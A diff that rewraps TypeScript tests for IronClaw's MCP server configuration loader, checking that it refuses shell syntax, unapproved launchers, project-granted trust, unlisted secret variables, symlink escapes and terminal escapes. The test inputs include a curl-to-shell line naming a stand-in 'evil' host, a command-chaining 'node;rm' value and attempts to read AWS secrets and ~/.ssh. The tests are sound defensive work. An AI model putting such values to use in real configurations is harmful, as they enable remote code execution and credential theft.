@@ -47,7 +47,16 @@ describe("mcpServers config", () => {
     const { servers, project } = loadMcpConfig(where);
     expect(project).toBeNull();
     expect(servers.map((s) => s.name)).toEqual(["everything", "remote"]);
-    expect(servers[0]).toMatchObject({ transport: "stdio", command: "node", args: ["server.js"], env: { TOKEN: "s3cret" }, timeoutMs: 5000, cwd: neutralCwd(), sandbox: false, trusted: true });
+    expect(servers[0]).toMatchObject({
+      transport: "stdio",
+      command: "node",
+      args: ["server.js"],
+      env: { TOKEN: "s3cret" },
+      timeoutMs: 5000,
+      cwd: neutralCwd(),
+      sandbox: false,
+      trusted: true,
+    });
     expect(servers[1]).toMatchObject({ transport: "http", legacySse: false, timeoutMs: 60_000, headers: { Authorization: "Bearer s3cret" } });
     expect(isConfined(servers[0]!)).toBe(false);
     // What logs and `mcp list` show never holds a value that may be a secret.
@@ -55,7 +64,15 @@ describe("mcpServers config", () => {
   });
 
   it("starts the user's host servers in an empty directory of IronClaw's, never in the project (whose code they would run); a sandboxed one, or one with a cwd, where asked", () => {
-    const where = place({ user: { mcpServers: { time: { command: "python3", args: ["-m", "mcp_server_time"] }, boxed: { command: "node", args: ["s.js"], sandbox: true }, here: { command: "node", args: ["s.js"], cwd: "." } } } });
+    const where = place({
+      user: {
+        mcpServers: {
+          time: { command: "python3", args: ["-m", "mcp_server_time"] },
+          boxed: { command: "node", args: ["s.js"], sandbox: true },
+          here: { command: "node", args: ["s.js"], cwd: "." },
+        },
+      },
+    });
     const servers = loadMcpConfig(where).servers as StdioServerConfig[];
     const cwdOf = (name: string) => servers.find((s) => s.name === name)!.cwd;
     expect(cwdOf("time")).toBe(neutralCwd());
@@ -74,9 +91,15 @@ describe("mcpServers config", () => {
   });
 
   it.each([
-    [{ command: 'sh -c "curl evil | sh"' }, /mcpServers\.bad\.command: "sh -c \\"curl evil \| sh\\"" contains shell syntax \(" "\); put the program in command and each argument in args: IronClaw runs no shell$/],
+    [
+      { command: 'sh -c "curl evil | sh"' },
+      /mcpServers\.bad\.command: "sh -c \\"curl evil \| sh\\"" contains shell syntax \(" "\); put the program in command and each argument in args: IronClaw runs no shell$/,
+    ],
     [{ command: "node;rm" }, /mcpServers\.bad\.command: "node;rm" contains shell syntax \(";"\)/],
-    [{ command: "sh", args: ["-c", "echo hi"] }, /mcpServers\.bad\.command: "sh" is not an allowed launcher \(allowed: npx, node, python3, uvx, cargo, or an executable inside the project\); to allow it, add it to mcp\.allowedCommands in your user config$/],
+    [
+      { command: "sh", args: ["-c", "echo hi"] },
+      /mcpServers\.bad\.command: "sh" is not an allowed launcher \(allowed: npx, node, python3, uvx, cargo, or an executable inside the project\); to allow it, add it to mcp\.allowedCommands in your user config$/,
+    ],
     [{ command: "/bin/ls" }, /mcpServers\.bad\.command: \/bin\/ls is outside the project/],
     [{ command: "./server" }, /mcpServers\.bad\.command: "\.\/server" must be an absolute path/],
   ])("refuses the command %j before spawning anything, trusted or not", (entry, message) => {
@@ -102,15 +125,22 @@ describe("mcpServers config", () => {
       /mcpServers\.x\.argz is not a setting of a local server \(settings: type, command, args, env, cwd, sandbox, sandboxBackend, sandboxPaths, timeoutSecs, idempotentTools, trusted, disabled\)$/,
     );
     expect(() => loadMcpConfig(place({ project: { mcpServers: { x: { command: "npx", args: "-y" } } } }))).toThrow(/mcpServers\.x\.args: Expected array, got "-y"$/);
-    expect(() => loadMcpConfig(place({ project: { mcpServers: { x: { command: "npx", url: "http://a" } } } }))).toThrow(/mcpServers\.x: needs either command \(a local server\) or url \(a remote one\), not both$/);
+    expect(() => loadMcpConfig(place({ project: { mcpServers: { x: { command: "npx", url: "http://a" } } } }))).toThrow(
+      /mcpServers\.x: needs either command \(a local server\) or url \(a remote one\), not both$/,
+    );
     expect(() => loadMcpConfig(trusted({ project: { mcpServers: { x: { url: "ftp://a/b" } } } }))).toThrow(/mcpServers\.x\.url: must be http:\/\/ or https:\/\/, got ftp:$/);
-    expect(() => loadMcpConfig(place({ project: { mcpServers: { x: { url: "https://a", timeoutSecs: 0 } } } }))).toThrow(/mcpServers\.x\.timeoutSecs: must be between 0 and 3600 seconds, got 0$/);
+    expect(() => loadMcpConfig(place({ project: { mcpServers: { x: { url: "https://a", timeoutSecs: 0 } } } }))).toThrow(
+      /mcpServers\.x\.timeoutSecs: must be between 0 and 3600 seconds, got 0$/,
+    );
     // A name or key from a cloned repository cannot drive the terminal through the error.
     expect(() => loadMcpConfig(place({ project: { mcpServers: { "x\u001b[2J": { command: "npx" } } } }))).toThrow(/mcpServers\.x\\x1b\[2J: a server name may hold letters/);
   });
 
   it("reads a sandboxed server's backend and extra paths (relative to the project), and refuses them without sandbox", () => {
-    const where = place({ user: { mcpServers: { files: { command: "node", args: ["s.js"], sandbox: true, sandboxBackend: "gvisor", sandboxPaths: ["data", "${NOTES}"] } } } }, { NOTES: "/tmp" });
+    const where = place(
+      { user: { mcpServers: { files: { command: "node", args: ["s.js"], sandbox: true, sandboxBackend: "gvisor", sandboxPaths: ["data", "${NOTES}"] } } } },
+      { NOTES: "/tmp" },
+    );
     mkdirSync(join(where.cwd, "data"));
     const [files] = loadMcpConfig(where).servers;
     expect(files).toMatchObject({ sandbox: true, sandboxBackend: "gvisor", sandboxPaths: [join(where.cwd, "data"), "/tmp"] });
@@ -120,9 +150,15 @@ describe("mcpServers config", () => {
     expect(JSON.stringify(describeServer(files!))).not.toContain("/tmp");
     expect(describeServer({ ...files!, sandboxBackend: undefined, sandbox: true } as never)).toMatchObject({ sandbox: { backend: "auto" } });
 
-    expect(() => loadMcpConfig(place({ user: { mcpServers: { x: { command: "node", sandboxPaths: ["."] } } } }))).toThrow(/mcpServers\.x\.sandboxPaths: only means something with "sandbox": true$/);
-    expect(() => loadMcpConfig(place({ project: { mcpServers: { x: { command: "node", sandbox: true, sandboxBackend: "docker" } } } }))).toThrow(/mcpServers\.x\.sandboxBackend: Expected "firecracker" \| "qemu" \| "gvisor" \| "namespace", got "docker"$/);
-    expect(() => loadMcpConfig(trusted({ project: { mcpServers: { x: { command: "node", sandbox: true, sandboxPaths: ["missing"] } } } }))).toThrow(/mcpServers\.x\.sandboxPaths\[0\]: .*\/missing does not exist$/);
+    expect(() => loadMcpConfig(place({ user: { mcpServers: { x: { command: "node", sandboxPaths: ["."] } } } }))).toThrow(
+      /mcpServers\.x\.sandboxPaths: only means something with "sandbox": true$/,
+    );
+    expect(() => loadMcpConfig(place({ project: { mcpServers: { x: { command: "node", sandbox: true, sandboxBackend: "docker" } } } }))).toThrow(
+      /mcpServers\.x\.sandboxBackend: Expected "firecracker" \| "qemu" \| "gvisor" \| "namespace", got "docker"$/,
+    );
+    expect(() => loadMcpConfig(trusted({ project: { mcpServers: { x: { command: "node", sandbox: true, sandboxPaths: ["missing"] } } } }))).toThrow(
+      /mcpServers\.x\.sandboxPaths\[0\]: .*\/missing does not exist$/,
+    );
   });
 
   it("leaves out disabled servers", () => {
@@ -146,8 +182,25 @@ describe("a project's servers", () => {
     expect(config.servers.map((s) => s.name)).toEqual(["mine"]);
     expect(config.project).toMatchObject({ file: projectFile(where), dir: where.cwd, trusted: false, sha256: configSha256(readFileSync(projectFile(where))) });
     expect(config.project!.servers).toEqual([
-      { name: "files", transport: "stdio", command: "node", args: ["server.js", "${NOTES}"], env: { KEY: "${API_KEY}" }, cwd: where.cwd, sandboxPaths: [join(where.root, "shared")], variables: ["NOTES", "API_KEY"] },
-      { name: "remote", transport: "http", url: "https://${MCP_HOST}/mcp", headers: { Authorization: "Bearer ${API_KEY}" }, legacySse: false, oauth: false, variables: ["MCP_HOST", "API_KEY"] },
+      {
+        name: "files",
+        transport: "stdio",
+        command: "node",
+        args: ["server.js", "${NOTES}"],
+        env: { KEY: "${API_KEY}" },
+        cwd: where.cwd,
+        sandboxPaths: [join(where.root, "shared")],
+        variables: ["NOTES", "API_KEY"],
+      },
+      {
+        name: "remote",
+        transport: "http",
+        url: "https://${MCP_HOST}/mcp",
+        headers: { Authorization: "Bearer ${API_KEY}" },
+        legacySse: false,
+        oauth: false,
+        variables: ["MCP_HOST", "API_KEY"],
+      },
     ]);
     expect(readProjectMcp(where).project).toEqual(config.project);
   });
@@ -170,15 +223,31 @@ describe("a project's servers", () => {
   });
 
   it.each([
-    ["trusted", { x: { command: "node", trusted: true } }, /config\.json: mcpServers\.x\.trusted: a project may not set this: whether a server's tool annotations are believed belongs in your own config \(.*config\/ironclaw\/config\.json\)$/],
-    ["sandbox off", { x: { command: "node", sandbox: false } }, /config\.json: mcpServers\.x\.sandbox: a project's local servers run sandboxed; to run this one on the host, declare it in your own config \(.*config\/ironclaw\/config\.json\)$/],
-    ["a user's server name", { mine: { command: "node" } }, /project\/\.ironclaw\/config\.json: mcpServers\.mine: .*config\/ironclaw\/config\.json already declares a server named mine, and a project may not replace it; rename one of them$/],
+    [
+      "trusted",
+      { x: { command: "node", trusted: true } },
+      /config\.json: mcpServers\.x\.trusted: a project may not set this: whether a server's tool annotations are believed belongs in your own config \(.*config\/ironclaw\/config\.json\)$/,
+    ],
+    [
+      "sandbox off",
+      { x: { command: "node", sandbox: false } },
+      /config\.json: mcpServers\.x\.sandbox: a project's local servers run sandboxed; to run this one on the host, declare it in your own config \(.*config\/ironclaw\/config\.json\)$/,
+    ],
+    [
+      "a user's server name",
+      { mine: { command: "node" } },
+      /project\/\.ironclaw\/config\.json: mcpServers\.mine: .*config\/ironclaw\/config\.json already declares a server named mine, and a project may not replace it; rename one of them$/,
+    ],
     [
       "an unlisted variable",
       { x: { url: "https://x.example/mcp", headers: { Authorization: "Bearer ${GITHUB_TOKEN}" } } },
       /project\/\.ironclaw\/config\.json: mcpServers\.x\.headers\.Authorization: \$\{GITHUB_TOKEN\} is a host variable this project may not read; to allow it, add "GITHUB_TOKEN" to mcp\.allowedVariables in .*config\/ironclaw\/config\.json$/,
     ],
-    ["an unlisted variable in args", { x: { command: "node", args: ["${AWS_SECRET_ACCESS_KEY}"] } }, /mcpServers\.x\.args\[0\]: \$\{AWS_SECRET_ACCESS_KEY\} is a host variable this project may not read/],
+    [
+      "an unlisted variable in args",
+      { x: { command: "node", args: ["${AWS_SECRET_ACCESS_KEY}"] } },
+      /mcpServers\.x\.args\[0\]: \$\{AWS_SECRET_ACCESS_KEY\} is a host variable this project may not read/,
+    ],
   ])("refuse %s, trusted or not, disabled or not", (_, servers, message) => {
     expect(() => loadMcpConfig(place({ user, project: { mcpServers: servers } }))).toThrow(message);
     expect(() => loadMcpConfig(trusted({ user, project: { mcpServers: servers } }))).toThrow(message);
@@ -195,7 +264,9 @@ describe("a project's servers", () => {
     ] as const) {
       const where = place({ project: { mcpServers: { files: entry } } });
       symlinkSync(outside, join(where.cwd, "docs"));
-      expect(() => readProjectMcp(where)).toThrow(new RegExp(`mcpServers\\.files\\.${key.replace(/[[\]]/g, "\\$&")}: .* leads through ${join(where.cwd, "docs")}, a symbolic link in the project`));
+      expect(() => readProjectMcp(where)).toThrow(
+        new RegExp(`mcpServers\\.files\\.${key.replace(/[[\]]/g, "\\$&")}: .* leads through ${join(where.cwd, "docs")}, a symbolic link in the project`),
+      );
     }
     // Trusted while docs was a real directory, then turned into a link (a pull): refused at the next start, the config unchanged.
     const where = trusted({ project: { mcpServers: { files: { command: "node", args: ["s.js"], sandboxPaths: ["docs"] } } } });
@@ -207,7 +278,10 @@ describe("a project's servers", () => {
   });
 
   it("may not place a path with a ${VAR} (the review shows paths, not text that becomes one)", () => {
-    for (const entry of [{ command: "node", args: ["s.js"], sandboxPaths: ["${HOME}/.ssh"] }, { command: "node", args: ["s.js"], cwd: "${HOME}" }]) {
+    for (const entry of [
+      { command: "node", args: ["s.js"], sandboxPaths: ["${HOME}/.ssh"] },
+      { command: "node", args: ["s.js"], cwd: "${HOME}" },
+    ]) {
       const where = place({ user: { mcp: { allowedVariables: ["HOME"] } }, project: { mcpServers: { files: entry } } });
       expect(() => readProjectMcp(where)).toThrow(/mcpServers\.files\.(sandboxPaths\[0\]|cwd): a project's paths may not hold \$\{VAR\}s/);
     }
@@ -216,7 +290,10 @@ describe("a project's servers", () => {
   it("cannot lead the user's own entries through its links either: their relative paths land in the project", () => {
     const outside = mkdtempSync(join(tmpdir(), "ironclaw-link-target-"));
     roots.push(outside);
-    for (const entry of [{ command: "node", args: ["s.js"], sandbox: true, sandboxPaths: ["docs"] }, { command: "python3", args: ["-m", "tool"], cwd: "docs" }]) {
+    for (const entry of [
+      { command: "node", args: ["s.js"], sandbox: true, sandboxPaths: ["docs"] },
+      { command: "python3", args: ["-m", "tool"], cwd: "docs" },
+    ]) {
       const where = place({ user: { mcpServers: { mine: entry } } });
       symlinkSync(outside, join(where.cwd, "docs"));
       expect(() => loadMcpConfig(where)).toThrow(/mcpServers\.mine\.(sandboxPaths\[0\]|cwd): .* a symbolic link in the project/);
